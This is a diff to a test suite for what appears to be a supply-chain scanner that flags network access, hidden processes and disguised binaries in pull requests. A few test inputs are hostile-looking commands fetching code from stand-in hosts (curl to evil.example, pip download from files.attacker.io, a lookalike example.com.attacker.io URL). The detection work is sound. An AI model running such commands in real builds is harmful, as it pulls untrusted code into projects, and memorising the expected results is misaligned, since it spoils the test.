@@ -161,8 +161,17 @@ describe('ordinary changes of real projects stay quiet', () => {
     expect(isNetwork("print('see https://numpy.org/doc')")).toBe(false);
     expect(isNetwork('$(warning get it from https://example.org/)')).toBe(false);
     expect(isNetwork('\techo $$(curl -s https://evil.example/p)')).toBe(true);
-    expect(isNetwork('\tpip download https://evil.example/p.whl')).toBe(true);
-    expect(isNetwork('echoserver https://evil.example/')).toBe(true);
+    expect(isNetwork('\tpip download https://files.attacker.io/p.whl')).toBe(true);
+    expect(isNetwork('echoserver https://files.attacker.io/')).toBe(true);
+  });
+
+  it('a URL of a reserved name is no network access; a network call to one still is', () => {
+    expect(isNetwork("        'test_file', ['https://www.example.com/test_file'], mocks.MOCK_HASH)")).toBe(false);
+    for (const host of ['example.org', 'api.example.net', 'pkgs.example', 'mirror.test', 'x.invalid', 'a.localhost'])
+      expect(isNetwork(`URL = "https://${host}/simple"`)).toBe(false);
+    expect(isNetwork('URL = "https://example.com.attacker.io/simple"')).toBe(true);
+    expect(isNetwork('URL = "https://notexample.com/simple"')).toBe(true);
+    expect(isNetwork('r = requests.get("https://www.example.com/x")')).toBe(true);
   });
 
   it('xarray: gzip test data moved without a byte changed is low, not the xz alarm', () => {
@@ -211,6 +220,63 @@ describe('ordinary changes of real projects stay quiet', () => {
     const { findings, score } = of('dask-dependabot-bump');
     expectQuiet(findings, 'workflow/unpinned-uses');
     expect(score).toBeLessThan(2);
+  });
+});
+
+describe('held-out projects: what a change shows only in part, and inert images', () => {
+  it('zarr-python: a silenced Popen in a pytest fixture whose def the change did not touch is not import time', () => {
+    const silent = at(of('zarr-moto-fixture').findings, 'code/silent-process');
+    expect(silent.map((f) => f.severity)).toEqual(['low']);
+    expect(silent[0].message).not.toContain('import');
+  });
+
+  it('notebook: regenerated Playwright PNG snapshots and nothing else are inventory (low), not the xz alarm', () => {
+    const only = at(of('notebook-playwright-snapshots').findings, 'binary/binary-only-change');
+    expect(only.map((f) => f.severity)).toEqual(['low']);
+    expect(only[0].properties?.rasterImagesOnly).toBe(true);
+  });
+
+  it('sunpy: a WebP saved as .png is reported as a mislabel (medium), not a disguise (high)', () => {
+    const { findings } = of('sunpy-webp-as-png');
+    expect(at(findings, 'binary/opaque-file').map((f) => f.severity)).toEqual(['medium']);
+    // It is also the PR's only file here: an added raster image, low.
+    expect(at(findings, 'binary/binary-only-change').map((f) => f.severity)).toEqual(['low']);
+  });
+});
+
+describe('held-out projects: URLs that are ini values, reserved names or hosts the base names', () => {
+  const CASES = [
+    'notebook-project-urls',
+    'jupyter-server-setup-cfg',
+    'sunpy-tox-set-env',
+    'sunpy-conftest-example-url',
+    'nibabel-tox-uv-index',
+    'nibabel-tox-index-moved'
+  ];
+  it.each(CASES)('%s: no test-runner-hook finding above low', (name) => {
+    const hook = at(of(name).findings, 'build/test-runner-hook');
+    expect(hook.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
+
+  it('notebook, jupyter_server, sunpy: metadata URLs, set_env index settings and a reserved name: nothing at all', () => {
+    for (const name of CASES.filter((n) => n !== 'nibabel-tox-index-moved'))
+      expectQuiet(of(name).findings, 'build/test-runner-hook');
+  });
+
+  it('nibabel: a deps URL the base already named under a key that installs is reported low, saying so', () => {
+    const hook = at(of('nibabel-tox-index-moved').findings, 'build/test-runner-hook');
+    expect(hook.map((f) => `${f.location?.line} ${f.severity}`)).toEqual([
+      `${lineOf('nibabel-tox-index-moved/head/tox.ini', 'pre: pydicom @ git+https')} low`
+    ]);
+    expect(hook[0].message).toContain('already names (github.com)');
+  });
+
+  it('the index settings among them are still reported by deps/index-url, at low', () => {
+    for (const name of ['sunpy-tox-set-env', 'nibabel-tox-uv-index', 'nibabel-tox-index-moved']) {
+      const index = at(of(name).findings, 'deps/index-url');
+      expect(index.length).toBeGreaterThan(0);
+      expect(index.every((f) => f.severity === 'low')).toBe(true);
+    }
   });
 });
 
